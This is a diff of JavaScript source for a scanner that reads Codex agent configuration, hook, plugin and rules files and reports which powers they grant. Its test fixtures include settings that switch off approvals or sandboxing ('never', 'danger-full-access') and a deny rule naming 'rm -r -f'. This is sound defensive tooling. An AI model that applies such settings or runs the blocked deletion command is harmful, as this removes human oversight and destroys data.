+  plan_mode_reasoning_effort service_tier check_for_update_on_startup project_root_markers
+  commit_attribution daybreak instructions developer_instructions model_instructions_file
+  compact_prompt experimental_compact_prompt_file include_permissions_instructions
+  include_apps_instructions include_collaboration_mode_instructions include_environment_context
+  include_environment_context_time forced_chatgpt_workspace_id forced_login_method
+  mcp_oauth_callback_port mcp_optional_startup_grace_ms tool_output_token_limit
+  background_terminal_max_timeout thread_unload_delay_secs model_catalog_json responses
+  responses_api_metadata audio experimental_realtime_ws_model realtime
+  experimental_realtime_ws_backend_prompt experimental_realtime_ws_startup_context
+  experimental_realtime_start_instructions tool_suggest goals memories
+  suppress_unstable_features_warning ghost_snapshot disable_paste_burst analytics feedback desktop
+  otel.headers_helper_refresh_interval_ms otel.tool_result otel.log_sse_deltas otel.log_user_prompt
+  otel.log_agent_responses otel.log_guardian_assessments otel.environment otel.span_attributes
+  otel.tracestate notice
+  oss_provider $schema
+`);
+const codexRows = [
+	...modeRows,
+	...workspaceRows,
+	...providerRows$1,
+	...grants$1("run", "notify", "runs the program at the end of every turn", {
+		read: command$3({
+			start: "event",
+			event: "turn end"
+		}),
+		example: { notify: ["python3", "notify.py"] }
+	}),
+	...profileRows,
+	...environmentRows,
+	...codexAppRows,
+	...pluginRows,
+	...featureRows,
+	...grants$1("approve", "projects.<path>.trust_level", "`trusted`: loads the settings of the folder", {
+		read: value(["trusted"], {
+			kind: "approve",
+			feature: "permission-rule"
+		}),
+		example: { projects: { "/srv/app": { trust_level: "trusted" } } }
+	}),
+	...grants$1("run", "js_repl_node_path", "starts the program for JavaScript", {
+		read: command$3(),
+		example: { js_repl_node_path: "./node" }
+	}),
+	...grants$1("net", endpoints, "telemetry goes there", {
+		read: address("telemetry goes there"),
+		example: { otel: { exporter: { "otlp-http": { endpoint: "https://t.example" } } } }
+	}),
+	...grants$1("run", "otel.headers_helper", "runs the command to get headers for telemetry", {
+		read: command$3(),
+		example: { otel: { headers_helper: "./headers.sh" } }
+	}),
+	...exporters.flatMap((exporter) => within(exporter, harmless$1("headers protocol tls"))),
+	...harmlessRows
+];
+function unlessTable(read) {
+	return (field, place) => {
+		const result = read(field, place);
+		return field.value.kind === "table" ? {
+			...result,
+			faults: []
+		} : result;
+	};
+}
+function readHeader({ value: name }, { keys }) {
+	const variable = text$1(name);
+	const scope = `\${${variable ?? ""}} to the model`;
+	const more = {
+		kind: "secret",
+		feature: "secret",
+		variable,
+		at: name.at
+	};
+	return { grants: [settingGrant(`model_providers.${keys[0] ?? ""}`, scope, more)] };
+}
+function readProvider({ key, value }) {
+	const subject = `model_providers.${key}`;
+	const url = get(value, "base_url");
+	const variable = text$1(get(value, "env_key"));
+	if (!url) return {};
+	const { name, isKnown } = hostOf$2(text$1(url));
+	const server = settingGrant(subject, name, {
+		kind: "net",
+		reach: isKnown ? "one" : "unknown",
+		remark: requests,
+		at: url.at
+	});
+	const secret = {
+		kind: "secret",
+		feature: "secret",
+		subject,
+		reach: "one",
+		trigger: inRepository,
+		scope: `\${${variable}} to ${server.scope}`,
+		at: url.at,
+		variable,
+		receiver: server.scope
+	};
+	return { grants: variable === void 0 ? [server] : [server, secret] };
+}
+// src/powers/carriers/codex-agent.ts
+const codexAgent = tableCarrier({
+	id: "codex-agent",
+	paths: [".codex/agents/*.toml"],
+	client: "Codex",
+	format: "toml",
+	consequence: "Codex does not load the agent",
+	rows: [
+		...clientServersRows("mcp_servers"),
+		...codexServerRows,
+		...codexHookRows("as in `.codex/hooks.json`"),
+		...codexRows,
+		...harmless$1("name description nickname_candidates")
+	],
+	unitOf: (path) => /(?:^|\/)\.codex\/agents\/[^/]+\.toml$/.test(path) ? {
+		kind: "agent",
+		root: path
+	} : null,
+	sample: {
+		path: ".codex/agents/a.toml",
+		fields: { name: "a" }
+	}
+});
+// src/powers/carriers/codex-apps.ts
+const codexApps = tableCarrier({
+	id: "codex-apps",
+	paths: ["<plugin>/.app.json"],
+	client: "Codex",
+	format: "json",
+	consequence: "Codex connects none of it",
+	rows: [...grants$1("mcp", "apps.<name>", "connects the tools of the hosted connector", {
+		read: readApp,
+		example: { apps: { mail: { id: "connector_1234" } } }
+	}), ...harmless$1("apps.<name>.id $schema")],
+	unitOf: (path) => nameOf$3(path) === ".app.json" ? {
+		kind: "plugin",
+		root: folderOf(path)
+	} : null,
+	sample: { path: "p/.app.json" }
+});
 function readApp({ key, keyAt, value }) {
 	const id = text$1(get(value, "id"));
 	const grant = {
@@ -15979,332 +17415,44 @@ function readApp({ key, keyAt, value }) {
 		faults
 	};
 }
-// src/powers/clients/codex-settings.ts
-const approval = {
-	subject: "approval_policy",
-	raised: new Map([["on-failure", 1], ["never", 2]]),
-	limiting: new Set(["untrusted"]),
-	neutral: new Set(["on-request"])
-};
-const sandbox$1 = {
-	subject: "sandbox_mode",
-	raised: new Map([["workspace-write", 1], ["danger-full-access", 2]]),
-	limiting: new Set(["read-only"]),
-	neutral: new Set()
-};
-function readApproval(field) {
-	return readScale(field, approval);
-}
-function readSandboxMode(field) {
-	return readScale(field, sandbox$1);
-}
-function readScale(field, scale) {
-	if (!field) return {};
-	const { value } = field;
-	const mode = text$1(value);
-	if (mode !== void 0 && scale.neutral.has(mode)) return {};
-	const { subject } = scale;
-	const grant = {
-		kind: "approve",
-		feature: "permission-mode",
-		subject,
-		trigger: inRepository,
-		scope: mode ?? subject,
-		reach: "one",
-		at: value.at
-	};
-	if (mode !== void 0 && scale.limiting.has(mode)) return { grants: [{
-		...grant,
-		kind: "guard"
-	}] };
-	const rank = mode === void 0 ? void 0 : scale.raised.get(mode);
-	if (rank !== void 0) return { grants: [{
-		...grant,
-		rank
-	}] };
-	const fault = wrongType(subject, value, {
-		expected: list([
-			...scale.limiting,
-			...scale.neutral,
-			...scale.raised.keys()
-		].map(valuePart), {
-			limit: 9,
-			last: "or"
-		}),
-		consequence: "what it allows is unknown"
-	});
-	const faults = value.kind === "table" ? [] : [fault];
-	return {
-		grants: [{
-			...grant,
-			reach: "unknown"
-		}],
-		faults
-	};
-}
-const workspaceKeys = new Set([
-	"writable_roots",
-	"network_access",
-	"exclude_tmpdir_env_var",
-	"exclude_slash_tmp"
-]);
-function readWorkspaceWrite(value) {
-	const prefix = "sandbox_workspace_write.";
-	const network = get(value, "network_access");
-	const roots = stringsOf(get(value, "writable_roots")) ?? [];
-	const base = {
-		kind: "write",
-		feature: "setting",
-		trigger: inRepository,
-		subject: `${prefix}writable_roots`
-	};
-	const isOpen = flag$1(network) === true;
-	const net = {
-		kind: "net",
-		reach: "any",
-		at: network?.at ?? { path: "" }
-	};
-	return combine$1({
-		unread: unreadFields(value, workspaceKeys, prefix),
-		grants: [...roots.map((folder) => folderGrant(folder, base)), ...isOpen ? [settingGrant(`${prefix}network_access`, "every host", net)] : []]
-	});
-}
-function readNotify(field) {
-	if (!field) return {};
-	const command = items(field.value).map((item) => source(item) ?? "");
-	const line = joinWords(command);
-	return { grants: [{
-		kind: "run",
-		feature: "helper-command",
-		scope: line,
-		subject: "notify",
-		reach: line === "" ? "unknown" : "one",
-		trigger: {
-			start: "event",
-			event: "turn end"
-		},
-		pin: pinOf$1(line),
-		command,
-		at: field.value.at
-	}] };
-}
-function readProviders$1(root) {
-	const addresses = ["openai_base_url", "chatgpt_base_url"].flatMap((key) => {
-		const value = get(root, key);
-		return value ? [addressGrant(key, value)] : [];
-	});
-	const providers = fields(get(root, "model_providers")).flatMap(({ key, value }) => {
-		const subject = `model_providers.${key}`;
-		const address = get(value, "base_url");
-		const name = text$1(get(value, "env_key"));
-		if (!address) return [];
-		const server = addressGrant(subject, address);
-		const secret = {
-			kind: "secret",
-			feature: "secret",
-			subject,
-			reach: "one",
-			trigger: inRepository,
-			scope: `\${${name}} to ${server.scope}`,
-			at: address.at,
-			variable: name,
-			receiver: server.scope
+// src/powers/clients/client-file.ts
+function clientFile(...names) {
+	return (path) => {
+		const name = names.find((one) => path === one || path.endsWith(`/${one}`));
+		if (name === void 0) return null;
+		return {
+			kind: "repository",
+			root: path.slice(0, -name.length).replace(/\/$/, "")
 		};
-		return name === void 0 ? [server] : [server, secret];
-	});
-	return combine$1({ grants: [...addresses, ...providers] });
+	};
 }
-function addressGrant(subject, value) {
-	const { name, isKnown } = hostOf$1(text$1(value));
-	return settingGrant(subject, name, {
-		kind: "net",
-		reach: isKnown ? "one" : "unknown",
-		remark: "requests to the model go there",
-		at: value.at
-	});
-}
-// src/powers/examples/codex-config.ts
-const config$1 = (text) => ({ ".codex/config.toml": text });
-const example$12 = exampleWriter(config$1);
-const server$1 = "[mcp_servers.docs]\nurl = \"https://docs.example/mcp\"\n";
 // src/powers/carriers/codex-config.ts
-const codexConfig = {
+const codexConfig = tableCarrier({
 	id: "codex-config",
-	title: "`.codex/config.toml`",
+	paths: [".codex/config.toml"],
 	client: "Codex",
-	extensions: ["toml"],
-	fields: [
-		{
-			field: "approval_policy",
-			kind: "approve",
-			description: "`on-failure`, `never`: asks less; `untrusted`: limits"
-		},
-		{
-			field: "sandbox_mode",
-			kind: "approve",
-			description: "`workspace-write`, `danger-full-access`: commands reach more; `read-only`: limits"
-		},
-		{
-			field: "sandbox_workspace_write.writable_roots",
-			kind: "write",
-			description: "writes the folders"
-		},
-		{
-			field: "sandbox_workspace_write.network_access",
-			kind: "net",
-			description: "commands reach the network"
-		},
-		{
-			field: "mcp_servers.<name>",
-			kind: "mcp",
-			description: "starts the server, with its tools"
-		},
-		{
-			field: "mcp_servers.<name>.bearer_token_env_var, env_http_headers, env",
-			kind: "secret",
-			description: "passes on variables of the environment"
-		},
-		{
-			field: "hooks",
-			kind: "run",
-			description: "as in `.codex/hooks.json`"
-		},
-		{
-			field: "notify",
-			kind: "run",
-			description: "runs the program at the end of every turn"
-		},
-		{
-			field: "disabled_tools",
-			kind: "guard",
-			description: "takes tools of a server away"
-		},
-		{
-			field: "features, agents, shell_environment_policy, plugins, marketplaces, apps, tools",
-			kind: "settings",
-			description: "shown as written"
-		}
+	format: "toml",
+	consequence: "Codex uses none of its settings",
+	rows: [
+		...clientServersRows("mcp_servers"),
+		...codexServerRows,
+		...codexHookRows("as in `.codex/hooks.json`"),
+		...codexRows
 	],
-	unitOf(path) {
-		const folder = folderOf(path);
-		return nameOf$3(path) === "config.toml" && nameOf$3(folder) === ".codex" ? {
-			kind: "repository",
-			root: folderOf(folder)
-		} : null;
-	},
-	read: read$1,
-	examples: [
-		example$12("approve", "never", [
-			"approval_policy = \"never\"\n",
-			"approval_policy = \"on-request\"\n",
-			"model = 'x'\n'approval_policy' = 'never' # asks nothing\n"
-		]),
-		example$12("approve", "danger-full-access", ["sandbox_mode = \"danger-full-access\"\n", "sandbox_mode = \"workspace-write\"\n"]),
-		example$12("write", "/srv/data/", [
-			"[sandbox_workspace_write]\nwritable_roots = [\"/srv/data\"]\n",
-			"[sandbox_workspace_write]\nwritable_roots = []\n",
-			"sandbox_workspace_write.writable_roots = [\"/srv//data/\"]\n"
-		]),
-		example$12("net", "every host", [
-			"[sandbox_workspace_write]\nnetwork_access = true\n",
-			"[sandbox_workspace_write]\nnetwork_access = false\n",
-			"sandbox_workspace_write = { network_access = true }\n"
-		]),
-		example$12("mcp", "npx -y docs-mcp@latest", [
-			"[mcp_servers.docs]\ncommand = \"npx\"\nargs = [\"-y\", \"docs-mcp@latest\"]\n",
-			"[mcp_servers.docs]\nenabled = false\ncommand = \"npx\"\nargs = [\"-y\", \"docs-mcp@latest\"]\n",
-			"mcp_servers.docs = { args = [\"-y\", \"docs-mcp@latest\"], command = \"npx\", startup_timeout_sec = 9 }\n"
-		]),
-		example$12("secret", "${DOCS_TOKEN} to https://docs.example/mcp", [`${server$1}bearer_token_env_var = "DOCS_TOKEN"\n`, server$1]),
-		example$12("run", "start.sh", [
-			"[[hooks.SessionStart]]\n[[hooks.SessionStart.hooks]]\ntype = \"command\"\ncommand = \"start.sh\"\n",
-			"[hooks]\n",
-			"hooks.SessionStart = [{ hooks = [{ command = \"start.sh\", type = \"command\" }] }]\n"
-		]),
-		example$12("run", "python3 notify.py", ["notify = [\"python3\", \"notify.py\"]\n", "model = \"x\"\n"]),
-		example$12("guard", "not docs / drop", [`${server$1}disabled_tools = ["drop"]\n`, server$1]),
-		example$12("settings", "features", [
-			"[features]\nweb_search_request = true\n",
-			"model = \"x\"\n",
-			"features = { web_search_request = true }\n"
-		])
-	]
-};
-const opaque$1 = wordList(`
-  features agents shell_environment_policy plugins marketplaces apps tools web_search permissions
-  default_permissions profile profiles model_provider allow_login_shell approvals_reviewer skills
-  experimental_use_unified_exec_tool
-`);
-const silent = wordList(`
-  model model_reasoning_effort model_reasoning_summary model_verbosity tui model_context_window
-  model_auto_compact_token_limit personality file_opener history hide_agent_reasoning
-  show_raw_agent_reasoning project_doc_max_bytes project_doc_fallback_filenames review_model
-  plan_mode_reasoning_effort service_tier check_for_update_on_startup project_root_markers
-  commit_attribution
-`);
-const readKeys = [
-	"approval_policy",
-	"sandbox_mode",
-	"sandbox_workspace_write",
-	"mcp_servers"
-];
-const known$10 = new Set([
-	...[
-		...opaque$1,
-		...silent,
-		...readKeys
-	],
-	"hooks",
-	"notify",
-	"model_providers",
-	"openai_base_url",
-	"chatgpt_base_url"
-]);
-function read$1({ path, text, unit }) {
-	const { root, faults } = readToml(path, text, "Codex uses none of its settings");
-	if (root?.kind !== "table") return combine$1({ faults });
-	const { fields } = root;
-	return combine$1({ unread: unreadFields(root, known$10) }, readApproval(fields.get("approval_policy")), readSandboxMode(fields.get("sandbox_mode")), readWorkspaceWrite(get(root, "sandbox_workspace_write")), readClientServers(get(root, "mcp_servers"), { unit }), readHooks(get(root, "hooks"), { unit }), readNotify(fields.get("notify")), readProviders$1(root), ...opaque$1.map((key) => opaqueSetting(fields.get(key), "")));
-}
+	unitOf: clientFile(".codex/config.toml"),
+	sample: { path: ".codex/config.toml" }
+});
 // src/powers/carriers/codex-hooks.ts
-const known$9 = new Set([
-	"hooks",
-	"description",
-	"$schema"
-]);
-const hook = (command) => `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "${command}"}]}]}}\n`;
-const codexHooks = {
+const codexHooks = tableCarrier({
 	id: "codex-hooks",
-	title: "`.codex/hooks.json`",
+	paths: [".codex/hooks.json"],
 	client: "Codex",
-	extensions: ["json"],
-	fields: [{
-		field: "hooks.<event>[].hooks[].command",
-		kind: "run",
-		description: "runs the command at the event, once the user trusts it"
-	}, {
-		field: "hooks.PreToolUse[].hooks[]",
-		kind: "guard",
-		description: "may block the tool call"
-	}],
-	unitOf(path) {
-		const folder = folderOf(path);
-		return nameOf$3(path) === "hooks.json" && nameOf$3(folder) === ".codex" ? {
-			kind: "repository",
-			root: folderOf(folder)
-		} : null;
-	},
-	read({ path, text, unit }) {
-		const { root, faults } = readJson(path, text, { consequence: "Codex loads none of its hooks" });
-		if (!root) return combine$1({ faults });
-		return combine$1({ unread: unreadFields(root, known$9) }, readHooks(get(root, "hooks"), { unit }));
-	},
-	examples: [exampleOf$1("run", "notify.sh", [
-		{ ".codex/hooks.json": hook("notify.sh") },
-		{ ".codex/hooks.json": "{\"hooks\": {}}\n" },
-		{ ".codex/hooks.json": "{\"hooks\": {\"Stop\": [{\"matcher\": \"\", \"hooks\": [{\"command\": \"notify.sh\", \"timeout\": 5, \"type\": \"command\"}]}]}}\n" }
-	]), exampleOf$1("guard", "PreToolUse", [{ ".codex/hooks.json": hook("deny.sh").replace("Stop", "PreToolUse") }, { ".codex/hooks.json": "{\"hooks\": {}}\n" }])]
-};
+	format: "json",
+	consequence: "Codex loads none of its hooks",
+	rows: [...codexHookRows("runs commands at the event, once the user trusts them"), ...harmless$1("description $schema")],
+	unitOf: clientFile(".codex/hooks.json"),
+	sample: { path: ".codex/hooks.json" }
+});
 // src/powers/clients/inline-parts.ts
 function readParts(value, { unit, carrier, wrapper, read }) {
 	if (!value) return combine$1();
@@ -16315,33 +17463,44 @@ function readParts(value, { unit, carrier, wrapper, read }) {
 			return read(inner?.kind === "table" ? inner : item);
 		}
 		const target = resolve$1(unit.root, path);
-		return target === void 0 ? {} : { follow: new Map([[target, carrier]]) };
+		return target === void 0 ? {} : { follow: new Map([[target, {
+			carrier,
+			at: item.at
+		}]]) };
 	}));
 }
 // src/powers/clients/plugin-manifest.ts
-const commonKeys = wordList(`
-  name version description author homepage repository license keywords $schema category tags
-  skills
-`);
+function partRows(client) {
+	return [
+		...grants$1("run", "hooks", `as in \`${client.hookFile}\`, or the path of such a file`),
+		...inlineRows("hooks", client.eventRows),
+		...grants$1("mcp", "mcpServers", "as in `.mcp.json`, or the path of such a file"),
+		...inlineRows("mcpServers", (prefix) => clientServerRows("mcpServers", prefix)),
+		...client.rows,
+		...harmless$1(`
+      name version description author homepage repository license keywords $schema category tags
+      skills
+    `)
+	];
+}
 function pluginManifest(client) {
-	const { id, title, client: name, hookFile, examples } = client;
-	return {
+	const { id, paths, client: name, examples, sample } = client;
+	const carrier = tableCarrier({
 		id,
-		title,
+		paths,
 		client: name,
 		examples,
-		fields: [{
-			field: "hooks",
-			kind: "run",
-			description: `as in \`${hookFile}\`, or the path of such a file`
-		}, {
-			field: "mcpServers",
-			kind: "mcp",
-			description: "as in `.mcp.json`, or the path of such a file"
-		}],
-		extensions: ["json"],
+		...sample && { sample },
+		format: "json",
+		consequence: `${name} does not load the plugin`,
+		rows: partRows(client),
 		unitOf: (path) => pluginOf(path, client),
-		read: (file) => readManifest(file, client)
+		readWhole: (root, { unit }) => readPluginParts(root, unit, client)
+	});
+	const isOther = ({ path, text: written }) => client.mayBeAtRoot && isOutsideClientFolder(path) && !pluginKey$1.test(written);
+	return {
+		...carrier,
+		read: (file) => isOther(file) ? nothing$1 : carrier.read(file)
 	};
 }
 function pluginOf(path, { folders, mayBeAtRoot = false }) {
@@ -16361,10 +17520,7 @@ function isOutsideClientFolder(path) {
 	return !/(?:^|\/)\.[^/]+\/(?:plugin\/)?plugin\.json$/.test(path);
 }
 const pluginKey$1 = /"(?:hooks|mcpServers|lspServers|skills|agents|commands)"\s*:/;
-function readManifest({ path, text: written, unit }, client) {
-	if (client.mayBeAtRoot && isOutsideClientFolder(path) && !pluginKey$1.test(written)) return nothing$1;
-	const { root, faults } = readJson(path, written, { consequence: `${client.client} does not load the plugin` });
-	if (root?.kind !== "table") return combine$1({ faults });
+function readPluginParts(root, unit, client) {
 	const hooks = {
 		unit,
 		carrier: client.hooksCarrier,
@@ -16380,25 +17536,31 @@ function readManifest({ path, text: written, unit }, client) {
 	return combine$1({
 		name: text$1(get(root, "name")),
 		version: source(get(root, "version"))
-	}, { unread: unreadFields(root, client.known) }, readParts(get(root, "hooks"), hooks), readParts(get(root, "mcpServers"), servers), client.readMore?.(root, unit) ?? {});
+	}, client.hasNamedParts ? readNamedParts(root, unit) : { skillFolders: skillFoldersOf(root, unit) }, readParts(get(root, "hooks"), hooks), readParts(get(root, "mcpServers"), servers), client.readMore?.(root, unit) ?? {});
 }
 // src/powers/carriers/codex-plugin.ts
 const codexPlugin = pluginManifest({
 	id: "codex-plugin",
-	title: "`.codex-plugin/plugin.json`",
+	paths: [".codex-plugin/plugin.json"],
 	client: "Codex",
 	folders: [".codex-plugin"],
 	hookFile: "hooks/hooks.json",
-	known: new Set([
-		...commonKeys,
-		"interface",
-		"hooks",
-		"mcpServers",
-		"apps"
-	]),
+	rows: [
+		...grants$1("mcp", "apps", "as in `.app.json`, by its path"),
+		...harmless$1("interface agents commands"),
+		...grants$1("settings", "scheduledTasks", "starts tasks at set times", {
+			read: opaque(),
+			example: { scheduledTasks: [{ prompt: "Check." }] }
+		})
+	],
+	eventRows,
+	sample: { path: "p/.codex-plugin/plugin.json" },
 	hooksCarrier: "claude-hooks",
 	serversCarrier: "mcp-json",
-	readHooks: (value, unit) => readHooks(value, { unit }),
+	readHooks: (value, unit) => readHooks$1(value, {
+		unit,
+		dialect: codexDialect
+	}),
 	readMore: (root, unit) => readApps(get(root, "apps"), unit.root),
 	examples: [exampleOf$1("run", "start.sh", [
 		{ "p/.codex-plugin/plugin.json": "{\"name\": \"p\", \"hooks\": {\"SessionStart\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"start.sh\"}]}]}}\n" },
@@ -16421,7 +17583,289 @@ function readApps(value, root) {
 		consequence: "Codex ignores it"
 	})] };
 	const target = resolve$1(root, path);
-	return target === void 0 ? {} : { follow: new Map([[target, "codex-apps"]]) };
+	return target === void 0 ? {} : { follow: new Map([[target, {
+		carrier: "codex-apps",
+		at: value.at
+	}]]) };
+}
+// src/syntax/starlark/calls.ts
+const maxDepth$5 = 20;
+const token = /(?:[\s\\]|#[^\n]*)*(?:([A-Za-z_]\w*)|(-?\d+)|("""(?:[^\\]|\\[\s\S])*?"""|'''(?:[^\\]|\\[\s\S])*?'''|"(?:[^"\\\n]|\\[\s\S])*"|'(?:[^'\\\n]|\\[\s\S])*')|([\s\S]))?/y;
+var Unread = class extends Error {
+	token;
+	constructor(token) {
+		super("unread");
+		this.token = token;
+	}
+};
+function parseCalls(path, text) {
+	const lines = new LineMap(text);
+	const locate = ({ start, end }) => lines.locate(path, start, end);
+	try {
+		return new Reader$2(text, locate).file();
+	} catch (error) {
+		if (!(error instanceof Unread)) throw error;
+		return parseFailure({
+			code: "starlark",
+			message: msg`Only calls with texts and lists are read.`,
+			at: locate(error.token)
+		});
+	}
+}
+var Reader$2 = class {
+	#text;
+	#locate;
+	#next;
+	constructor(text, locate) {
+		this.#text = text;
+		this.#locate = locate;
+		this.#next = this.#scan(0);
+	}
+	file() {
+		const calls = new Map();
+		while (this.#next.kind !== "end") {
+			const name = this.#take("name");
+			const at = this.#locate(name);
+			const known = calls.get(name.text) ?? {
+				at,
+				items: []
+			};
+			calls.set(name.text, known);
+			known.items.push(this.#arguments(at));
+			while (this.#next.text === ";") this.#advance();
+		}
+		const fields = [...calls].map(([key, { at, items }]) => [key, {
+			key,
+			keyAt: at,
+			value: {
+				kind: "list",
+				items,
+				at
+			}
+		}]);
+		return {
+			root: {
+				kind: "table",
+				at: this.#locate({
+					start: 0,
+					end: this.#text.length
+				}),
+				fields: new Map(fields)
+			},
+			faults: [],
+			duplicates: []
+		};
+	}
+	#arguments(at) {
+		const fields = new Map();
+		this.#take("sign", "(");
+		while (this.#next.text !== ")") {
+			const name = this.#take("name");
+			if (fields.has(name.text)) throw new Unread(name);
+			this.#take("sign", "=");
+			const field = {
+				key: name.text,
+				keyAt: this.#locate(name),
+				value: this.#value(0)
+			};
+			fields.set(name.text, field);
+			if (this.#next.text !== ")") this.#take("sign", ",");
+		}
+		this.#take("sign", ")");
+		return {
+			kind: "table",
+			fields,
+			at
+		};
+	}
+	#value(depth) {
+		const first = this.#advance();
+		const at = this.#locate(first);
+		const scalar = {
+			source: first.text,
+			at
+		};
+		if (first.kind === "text") return {
+			...scalar,
+			kind: "string",
+			value: unquoted(first.text)
+		};
+		if (first.kind === "number") return {
+			...scalar,
+			kind: "number",
+			value: Number(first.text)
+		};
+		if (first.text === "None") return {
+			...scalar,
+			kind: "null",
+			value: null
+		};
+		if (first.text === "True" || first.text === "False") return {
+			...scalar,
+			kind: "boolean",
+			value: first.text === "True"
+		};
+		const close = first.text === "[" ? "]" : first.text === "(" ? ")" : "";
+		if (first.kind !== "sign" || close === "" || depth === maxDepth$5) throw new Unread(first);
+		const items = [];
+		while (this.#next.text !== close) {
+			items.push(this.#value(depth + 1));
+			if (this.#next.text !== close) this.#take("sign", ",");
+		}
+		this.#advance();
+		return {
+			kind: "list",
+			items,
+			at
+		};
+	}
+	#take(kind, text) {
+		const taken = this.#advance();
+		if (taken.kind !== kind || text !== void 0 && taken.text !== text) throw new Unread(taken);
+		return taken;
+	}
+	#advance() {
+		const current = this.#next;
+		this.#next = this.#scan(current.end);
+		return current;
+	}
+	#scan(from) {
+		token.lastIndex = from;
+		const [all = "", name, number, quoted, sign] = token.exec(this.#text) ?? [];
+		const text = name ?? number ?? quoted ?? sign ?? "";
+		const end = from + all.length;
+		const range = {
+			text,
+			start: end - text.length,
+			end
+		};
+		if (name !== void 0) return {
+			...range,
+			kind: "name"
+		};
+		if (number !== void 0) return {
+			...range,
+			kind: "number"
+		};
+		if (quoted !== void 0) return {
+			...range,
+			kind: "text"
+		};
+		return {
+			...range,
+			kind: sign === void 0 ? "end" : "sign"
+		};
+	}
+};
+const escapes$2 = {
+	n: "\n",
+	t: "	",
+	r: "\r",
+	"\n": ""
+};
+function unquoted(written) {
+	const quotes = /^("""|'''|"|')/.exec(written)?.[1] ?? "";
+	return written.slice(quotes.length, -quotes.length).replace(/\\([\s\S])/g, (_, char) => escapes$2[char] ?? char);
+}
+// src/powers/carriers/codex-rules.ts
+const rows$11 = [
+	...grants$1("approve", "prefix_rule[]", "`allow`: runs the command without asking", { read: ({ value }) => decided(value, commandOf$1(value), {
+		kind: "approve",
+		absent: "allow"
+	}) }),
+	...grants$1("guard", "prefix_rule[].decision", "`prompt`, `forbidden`: limits the command"),
+	...within("prefix_rule[]", harmless$1("pattern justification match not_match")),
+	...grants$1("net", "network_rule[]", "`allow`: commands reach the host", { read: ({ value }) => decided(value, hostOf$1(value), {
+		kind: "net",
+		absent: ""
+	}) }),
+	...within("network_rule[]", harmless$1("host protocol decision justification")),
+	...grants$1("settings", "host_executable[]", "decides which program a name stands for", { read: readExecutable }),
+	...within("host_executable[]", harmless$1("name paths"))
+];
+const file$2 = (content) => ({ ".codex/rules/team.rules": content });
+const codexRules = {
+	id: "codex-rules",
+	paths: [".codex/rules/*.rules"],
+	client: "Codex",
+	extensions: ["rules"],
+	rows: rows$11,
+	unitOf(path) {
+		const found = /^(?:(.*)\/)?\.codex\/rules\/[^/]+\.rules$/.exec(path);
+		return found && {
+			kind: "repository",
+			root: found[1] ?? ""
+		};
+	},
+	read(fileSource) {
+		const parsed = parseCalls(fileSource.path, fileSource.text);
+		const { root } = parsed;
+		if (root?.kind !== "table") return unknownRules(parsed, fileSource);
+		return readTable(root, rows$11, {
+			source: fileSource,
+			client: "Codex"
+		});
+	},
+	examples: [
+		exampleOf$1("approve", "git status", [
+			file$2("prefix_rule(pattern = [\"git\", \"status\"], decision = \"allow\")\n"),
+			file$2(""),
+			file$2("# Reads only.\nprefix_rule(\n  decision='allow',\n  pattern=['git', 'status',],\n)\n"),
+			file$2("prefix_rule(pattern=[\"git\", \"status\"])\n")
+		]),
+		exampleOf$1("guard", "forbidden: rm (-f|-r)", [
+			file$2("prefix_rule(pattern=[\"rm\", [\"-r\", \"-f\"]], decision=\"forbidden\")\n"),
+			file$2(""),
+			file$2("prefix_rule(pattern=[\"rm\", [\"-f\", \"-r\"]], decision=\"forbidden\")\n")
+		]),
+		exampleOf$1("net", "https x.example", [file$2("network_rule(host=\"x.example\", protocol=\"https\", decision=\"allow\")\n"), file$2("network_rule(host=\"x.example\", protocol=\"https\", decision=\"prompt\")\n")]),
+		exampleOf$1("settings", "/opt/git", [file$2("host_executable(name=\"git\", paths=[\"/opt/git\"])\n"), file$2("")])
+	]
+};
+function unknownRules({ faults }, { path, text: written }) {
+	const at = faults[0]?.at ?? { path };
+	return combine$1({
+		grants: [settingGrant("rules", "rules made by code", {
+			kind: "approve",
+			feature: "permission-rule",
+			reach: "unknown",
+			at
+		}), unknownField("rules", normalizeLineEndings$1(written), at)],
+		faults: faults.map(({ message }) => grantFault(message, at))
+	});
+}
+function decided(rule, scope, { kind, absent }) {
+	const decision = get(rule, "decision");
+	const written = decision ? text$1(decision) ?? "" : absent;
+	const at = decision?.at ?? rule.at;
+	if ([
+		"prompt",
+		"forbidden",
+		"deny"
+	].includes(written)) return { grants: [settingGrant("rule", `${written}: ${scope}`, {
+		kind: "guard",
+		at
+	})] };
+	return { grants: [settingGrant("rule", scope, {
+		kind,
+		feature: kind === "approve" ? "permission-rule" : "setting",
+		reach: written === "allow" && scope !== "" ? "one" : "unknown",
+		at
+	})] };
+}
+function commandOf$1(rule) {
+	return items(get(rule, "pattern")).map((word) => {
+		if (word.kind !== "list") return text$1(word) ?? "";
+		return `(${word.items.map((item) => text$1(item) ?? "").sort().join("|")})`;
+	}).join(" ");
+}
+function hostOf$1(rule) {
+	const [protocol, host] = ["protocol", "host"].map((key) => text$1(get(rule, key)) ?? "");
+	return `${protocol} ${(host ?? "").toLowerCase()}`.trim();
+}
+function readExecutable({ value }) {
+	const name = text$1(get(value, "name")) ?? "";
+	return { grants: items(get(value, "paths")).map((path) => settingGrant(`program ${name}`, `${name}: ${text$1(path) ?? ""}`, { at: path.at })) };
 }
 // src/powers/markdown/invocations.ts
 function readInvocations(frontmatter, { path, unit }) {
@@ -16503,28 +17947,20 @@ function splitOutsideBraces(text) {
 	return parts;
 }
 // src/powers/carriers/codex-skill.ts
-const known$8 = new Set([
-	"interface",
-	"policy",
-	"dependencies"
-]);
-const silentPolicies = new Set(["allow_implicit_invocation", "products"]);
 const sidecar = "agents/openai.yaml";
+const rows$10 = [
+	...grants$1("auto", "policy.allow_implicit_invocation", "absent, true or without the file: the model may start the skill by itself"),
+	...grants$1("mcp", "dependencies.tools[].type", "offers to add the MCP server to the configuration of the user"),
+	...harmless$1("interface policy.products"),
+	...within("dependencies.tools[]", harmless$1("value description transport command url"))
+];
 const codexSkill = {
 	id: "codex-skill",
-	title: "`agents/openai.yaml` of a skill",
+	paths: ["<skill>/agents/openai.yaml", "<skill>/SKILL.md"],
 	client: "Codex",
 	extensions: ["md", "yaml"],
 	isCheckedElsewhere: true,
-	fields: [{
-		field: "policy.allow_implicit_invocation",
-		kind: "auto",
-		description: "absent, true or without the file: the model may start the skill by itself"
-	}, {
-		field: "dependencies.tools[]",
-		kind: "mcp",
-		description: "offers to add the MCP server to the configuration of the user"
-	}],
+	rows: rows$10,
 	unitOf(path, tree) {
